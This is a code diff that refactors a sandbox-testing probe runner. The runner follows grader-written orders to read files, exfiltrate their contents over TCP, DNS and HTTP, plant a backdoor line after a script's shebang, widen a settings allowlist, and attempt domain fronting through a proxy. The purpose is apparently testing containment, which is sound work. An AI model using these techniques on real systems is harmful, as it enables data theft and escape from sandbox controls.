@@ -8,7 +8,10 @@ script prints only proves that an attempt was made, and carries file contents
 out so a read can be proven by its per-run canary.
 
 It reads its orders from /opt/sandbox-lab/run/config.json (written by the
-grader, mounted read-only): for each probe, the steps to carry out (read,
+grader, mounted read-only), parsed strictly by the shared ``wire`` module: an
+order it does not know, or one with a missing or renamed field, makes it
+refuse the whole run (a ``runner``/``refused`` record and no ``done``), which
+the grader reports as an error, never as a verdict. For each probe, the steps to carry out (read,
 write, an HTTP request, a raw TCP connection, a DNS lookup, steal = read and
 send every way, front = open a tunnel to one host and name others inside it),
 with every marker already built by the grader. It decides
@@ -17,6 +20,8 @@ of the same steps (every world file, directory and host); an HTTP step may say
 ``via``: "proxy" (only through the sandbox's proxy) or "direct" (never), and
 ``retries``: how often to ask again after a timeout (each attempt is printed).
 """
+
+from __future__ import annotations
 
 import base64
 import binascii
@@ -31,48 +36,54 @@ import urllib.error
 import urllib.parse
 import urllib.request
 from concurrent.futures import ThreadPoolExecutor
+from typing import TYPE_CHECKING, Callable, Optional
+
+if TYPE_CHECKING:
+    from grader.services import wire
+else:
+    try:  # in the image (and under srt): beside this script
+        import wire
+    except ImportError:  # on the host: imported from the package
+        from grader.services import wire
 
 CONFIG = "/opt/sandbox-lab/run/config.json"
 READ_LIMIT = 4096
 STEAL_THREADS = 8
 FRONT_THREADS = 4
+PARALLEL = 24  # probes carried out at once, at least
 START = time.monotonic()
 _lock = threading.Lock()
 
 
-def emit(probe, step, ok, detail="", data=None, target=None):
-    rec = {"probe": probe, "step": step, "ok": bool(ok), "detail": str(detail)[:300],
-           "t": round(time.monotonic() - START, 3)}  # seconds since the runner started: where time goes
-    if target is not None:
-        rec["target"] = target
-    if data is not None:
-        rec["data"] = data
-    line = json.dumps(rec)
+def emit(probe: str, step: str, ok: bool, detail: object = "", data: Optional[str] = None, target: Optional[str] = None) -> None:
+    # "t": seconds since the runner started: where time goes
+    rec = wire.RunnerRecord(probe, step, bool(ok), str(detail)[:300], round(time.monotonic() - START, 3), target, data)
+    line = wire.dump(rec)
     with _lock:
         sys.stdout.write(line + "\n")
         sys.stdout.flush()
 
 
-def err(exc):
+def err(exc: BaseException) -> str:
     name = type(exc).__name__
     code = getattr(exc, "errno", None)
     return f"{name}({code}): {exc}" if code else f"{name}: {exc}"
 
 
 class Agent:
-    def __init__(self, cfg):
+    def __init__(self, cfg: wire.RunnerOrders) -> None:
         self.cfg = cfg
-        self.proxy = cfg.get("proxy")
-        self.timeout = float(cfg.get("timeout", 3.0))  # an HTTP exchange: the proxy answers fast, even to refuse
+        self.proxy = cfg.proxy
+        self.timeout = cfg.timeout  # an HTTP exchange: the proxy answers fast, even to refuse
         # a raw connect to a black hole waits this long; the verdict never rests on it: a
         # blocked verdict needs the sink's silence, and a bridge answers in microseconds
-        self.connect_timeout = float(cfg.get("connect_timeout", self.timeout))
+        self.connect_timeout = cfg.connect_timeout
         ctx = ssl.create_default_context()
-        ca = cfg.get("ca_file")
+        ca = cfg.ca_file
         if ca and os.path.exists(ca):
             ctx.load_verify_locations(ca)
         self.ssl = ctx
-        handlers = [urllib.request.HTTPSHandler(context=ctx)]
+        handlers: list[urllib.request.BaseHandler] = [urllib.request.HTTPSHandler(context=ctx)]
         if self.proxy:
             handlers.append(urllib.request.ProxyHandler({"http": self.proxy, "https": self.proxy}))
         else:
@@ -83,7 +94,7 @@ class Agent:
 
     # --- primitives ---------------------------------------------------------------------
 
-    def read(self, probe, path):
+    def read(self, probe: str, path: str) -> Optional[bytes]:
         try:
             with open(path, "rb") as fh:
                 data = fh.read(READ_LIMIT)
@@ -93,7 +104,7 @@ class Agent:
             emit(probe, "read", False, err(exc), target=path)
             return None
 
-    def write(self, probe, path, text, append, after_first_line=False):
+    def write(self, probe: str, path: str, text: str, append: bool, after_first_line: bool = False) -> None:
         if after_first_line:
             # a script's backdoor goes right after its first line (#!): an "exec" further down would end it first
             try:
@@ -113,7 +124,7 @@ class Agent:
         except OSError as exc:
             emit(probe, "write", False, err(exc), target=path)
 
-    def widen(self, probe, path, widen, fallback):
+    def widen(self, probe: str, path: str, widen: wire.Widen, fallback: str) -> None:
         """Add hosts to a JSON settings file's network.allowedDomains, keeping everything else (its canary too);
         a file that cannot be read as JSON is written over with ``fallback``, the world's settings widened."""
         try:
@@ -121,14 +132,15 @@ class Agent:
                 data, _ = json.JSONDecoder().raw_decode(fh.read())  # anything after the JSON (a scan's line) is dropped
             net = data.get("network") if isinstance(data.get("network"), dict) else {}
             allowed = [d for d in net.get("allowedDomains") or [] if isinstance(d, str)]
-            data["network"] = dict(net, allowedDomains=allowed + [d for d in widen["domains"] if d not in allowed])
-            data[widen["key"]] = widen["marker"]
+            data["network"] = dict(net, allowedDomains=allowed + [d for d in widen.domains if d not in allowed])
+            data[widen.key] = widen.marker
             text = json.dumps(data) + "\n"
         except (OSError, ValueError, AttributeError, TypeError):
             text = fallback
         self.write(probe, path, text, append=False)
 
-    def http(self, probe, method, url, body=None, via=None, retries=0):
+    def http(self, probe: str, method: str, url: str, body: Optional[bytes] = None, via: Optional[str] = None,
+             retries: int = 0) -> bool:
         what = f"{method} {url}" + (f" via {via}" if via else "")
         if via == "proxy" and not self.proxy:
             emit(probe, "http", False, f"{what}: no proxy in this sandbox", target=url)
@@ -151,7 +163,7 @@ class Agent:
                     return False  # an answer (refused, no such name): asking again changes nothing
         return False
 
-    def tcp(self, probe, host, port, payload):
+    def tcp(self, probe: str, host: str, port: int, payload: bytes) -> None:
         try:
             with socket.create_connection((host, port), timeout=self.connect_timeout) as s:
                 s.sendall(payload)
@@ -161,19 +173,19 @@ class Agent:
         except OSError as exc:
             emit(probe, "tcp", False, f"{host}:{port}: {err(exc)}", target=f"{host}:{port}")
 
-    def dns(self, probe, name):
+    def dns(self, probe: str, name: str) -> None:
         try:
             addrs = socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)
             emit(probe, "dns", True, f"{name} -> {addrs[0][4][0]}", target=name)
         except OSError as exc:
             emit(probe, "dns", False, f"{name}: {err(exc)}", target=name)
 
-    def _tunnel(self, host, port):
+    def _tunnel(self, host: str, port: int) -> socket.socket:
         """A socket to ``host:port``: through the proxy's CONNECT when there is one, else straight there."""
         if not self.proxy:
             return socket.create_connection((host, port), timeout=self.timeout)
         p = urllib.parse.urlsplit(self.proxy)
-        sock = socket.create_connection((p.hostname, p.port or 80), timeout=self.timeout)
+        sock = socket.create_connection((p.hostname or "", p.port or 80), timeout=self.timeout)
         head = f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n"
         if p.username:  # srt hands its proxy a per-session credential in the URL
             cred = f"{urllib.parse.unquote(p.username)}:{urllib.parse.unquote(p.password or '')}"
@@ -191,13 +203,13 @@ class Agent:
             raise ConnectionRefusedError(f"the proxy answered {status or 'nothing'}")
         return sock
 
-    def front(self, probe, step):
+    def front(self, probe: str, step: wire.FrontStep) -> None:
         """Open a tunnel to one host, then name another inside it: in TLS (SNI) and in HTTP (Host).
 
         With no attempts, only the tunnel is asked for: the proxy's decision on that host goes on record.
         """
-        connect, port = step["connect"], int(step.get("port", 443))
-        attempts = step.get("attempts") or []
+        connect, port = step.connect, step.port
+        attempts = step.attempts
         if not attempts:
             try:
                 self._tunnel(connect, port).close()
@@ -205,20 +217,20 @@ class Agent:
             except OSError as exc:
                 emit(probe, "front", False, f"CONNECT {connect}:{port}: {err(exc)}", target=connect)
             return
-        body = step["body"].encode()
+        body = step.body.encode()
 
-        def attempt(a):
+        def attempt(a: wire.FrontAttempt) -> bool:
             """One fresh tunnel naming one other host; False when the proxy refused the tunnel itself."""
-            what = f"CONNECT {connect}:{port}, then SNI {a['sni']} and Host {a['host']}"
-            target = f"{connect}>{a['sni']}>{a['host']}"
+            what = f"CONNECT {connect}:{port}, then SNI {a.sni} and Host {a.host}"
+            target = f"{connect}>{a.sni}>{a.host}"
             try:
                 raw = self._tunnel(connect, port)
             except OSError as exc:
                 emit(probe, "front", False, f"{what}: {err(exc)}", target=target)
                 return False
             try:
-                with self.ssl.wrap_socket(raw, server_hostname=a["sni"]) as tls:
-                    request = (f"POST {step['request_path']} HTTP/1.1\r\nHost: {a['host']}\r\nUser-Agent: sandbox-lab-agent\r\n"
+                with self.ssl.wrap_socket(raw, server_hostname=a.sni) as tls:
+                    request = (f"POST {step.request_path} HTTP/1.1\r\nHost: {a.host}\r\nUser-Agent: sandbox-lab-agent\r\n"
                                f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode() + body
                     tls.sendall(request)
                     status = tls.recv(256).split(b"\r\n", 1)[0].decode("latin-1")
@@ -237,69 +249,65 @@ class Agent:
 
     # --- orders ----------------------------------------------------------------------------
 
-    def steal(self, probe, step):
+    def steal(self, probe: str, step: wire.StealStep) -> None:
         """Read one file, then send what it held every way the host listed."""
-        data = self.read(probe, step["path"])
-        if not data:
+        read = self.read(probe, step.path)
+        if not read:
             return
-        data = data.strip()[:200]
-        jobs = []
-        tcp = step.get("tcp")
-        if tcp:
-            jobs.append(lambda: self.tcp(probe, tcp["host"], tcp["port"], tcp["prefix"].encode() + data))
+        data = read.strip()[:200]
+        jobs: list[Callable[[], object]] = []
+        tcp = step.tcp
+        if tcp is not None:
+            jobs.append(lambda: self.tcp(probe, tcp.host, tcp.port, tcp.prefix.encode() + data))
         hexdata = binascii.hexlify(data).decode()
         chunks = [hexdata[i:i + 60] for i in range(0, len(hexdata), 60)][:12]
         for i, chunk in enumerate(chunks):
-            name = f"{chunk}.{i}{step['dns_suffix']}"
-            jobs.append(lambda n=name: self.dns(probe, n))
-        for url in step["urls"]:
-            jobs.append(lambda u=url: self.http(probe, "POST", u, data))
-        for url in step.get("get_urls", []):  # what was read, in the URL of a download
-            jobs.append(lambda u=url: self.http(probe, "GET", u + urllib.parse.quote(data, safe=""), None))
+            name = f"{chunk}.{i}{step.dns_suffix}"
+            jobs.append(lambda n=name: self.dns(probe, n))  # type: ignore[misc]
+        for url in step.urls:
+            jobs.append(lambda u=url: self.http(probe, "POST", u, data))  # type: ignore[misc]
+        for url in step.get_urls:  # what was read, in the URL of a download
+            jobs.append(lambda u=url: self.http(probe, "GET", u + urllib.parse.quote(data, safe=""), None))  # type: ignore[misc]
         # few threads per stolen file: every secret and credential is stolen at once, and the
         # sandbox's pids limit (256) counts threads
         with ThreadPoolExecutor(max_workers=STEAL_THREADS) as pool:
             list(pool.map(lambda f: f(), jobs))
 
-    def step(self, probe, step):
-        op = step.get("op")
-        if op == "read":
-            self.read(probe, step["path"])
-        elif op == "write" and step.get("widen"):
-            self.widen(probe, step["path"], step["widen"], step["text"])
-        elif op == "write":
-            self.write(probe, step["path"], step["text"], append=bool(step.get("append")),
-                       after_first_line=bool(step.get("after_first_line")))
-        elif op == "http":
-            body = step.get("body")
-            self.http(probe, step["method"], step["url"], body.encode() if body is not None else None,
-                      step.get("via"), int(step.get("retries", 0)))
-        elif op == "tcp":
-            self.tcp(probe, step["host"], step["port"], step["payload"].encode())
-        elif op == "tcp_gateways":
-            hosts = gateways() + list(step["names"])
+    def step(self, probe: str, step: wire.Step) -> None:
+        if isinstance(step, wire.ReadStep):
+            self.read(probe, step.path)
+        elif isinstance(step, wire.WriteStep) and step.widen is not None:
+            self.widen(probe, step.path, step.widen, step.text)
+        elif isinstance(step, wire.WriteStep):
+            self.write(probe, step.path, step.text, append=step.append, after_first_line=step.after_first_line)
+        elif isinstance(step, wire.HttpStep):
+            body = step.body
+            self.http(probe, step.method, step.url, body.encode() if body is not None else None, step.via, step.retries)
+        elif isinstance(step, wire.TcpStep):
+            self.tcp(probe, step.host, step.port, step.payload.encode())
+        elif isinstance(step, wire.TcpGatewaysStep):
+            hosts = gateways() + list(step.names)
+            gw = step
             with ThreadPoolExecutor(max_workers=len(hosts)) as pool:
-                list(pool.map(lambda h: self.tcp(probe, h, step["port"], step["payload"].encode()), hosts))
-        elif op == "dns":
-            self.dns(probe, step["name"])
-        elif op == "steal":
+                list(pool.map(lambda h: self.tcp(probe, h, gw.port, gw.payload.encode()), hosts))
+        elif isinstance(step, wire.DnsStep):
+            self.dns(probe, step.name)
+        elif isinstance(step, wire.StealStep):
             self.steal(probe, step)
-        elif op == "front":
-            self.front(probe, step)
         else:
-            emit(probe, "unknown", False, f"no such order in this runner: {op!r}")
+            self.front(probe, step)  # the parser admits no other kind
 
-    def run(self, spec):
+    def run(self, spec: wire.ProbeOrders) -> None:
         """Carry out one probe's steps (built by the grader), at once, then say it is done."""
-        pid, steps = spec["id"], spec["steps"]
+        pid, steps = spec.id, spec.steps
         if steps:
-            width = min(len(steps), int(spec.get("parallel") or len(steps)))
+            width = min(len(steps), spec.parallel or len(steps))
             with ThreadPoolExecutor(max_workers=width) as pool:
                 list(pool.map(lambda st: self.step(pid, st), steps))
         emit(pid, "done", True)
 
 
-def gateways():
+def gateways() -> list[str]:
     """Default gateways from the routing table: where the host usually answers."""
     out = []
     try:
@@ -313,21 +321,27 @@ def gateways():
     return out + ["172.17.0.1"]
 
 
-def main():
-    with open(CONFIG) as fh:
-        cfg = json.load(fh)
+def main() -> int:
+    try:
+        with open(CONFIG) as fh:
+            cfg = wire.parse_orders(json.load(fh))
+    except (OSError, ValueError) as exc:  # WireError is a ValueError: an order this runner cannot carry out
+        # no probe runs and none says "done": the grader reports an error, never a verdict
+        emit("runner", "refused", False, f"cannot read the orders: {err(exc)}")
+        return 2
     agent = Agent(cfg)
     emit("runner", "start", True, f"uid={os.getuid()}")
     # every entry at once: the scan's entries must not queue behind the probes
-    with ThreadPoolExecutor(max_workers=max(int(cfg.get("parallel", 24)), len(cfg["probes"]))) as pool:
-        futures = [pool.submit(agent.run, spec) for spec in cfg["probes"]]
+    with ThreadPoolExecutor(max_workers=max(PARALLEL, len(cfg.probes))) as pool:
+        futures = [pool.submit(agent.run, spec) for spec in cfg.probes]
         for f in futures:
             try:
                 f.result()
             except Exception as exc:  # noqa: BLE001
                 emit("runner", "crash", False, err(exc))
     emit("runner", "end", True)
+    return 0
 
 
 if __name__ == "__main__":
-    main()
+    sys.exit(main())
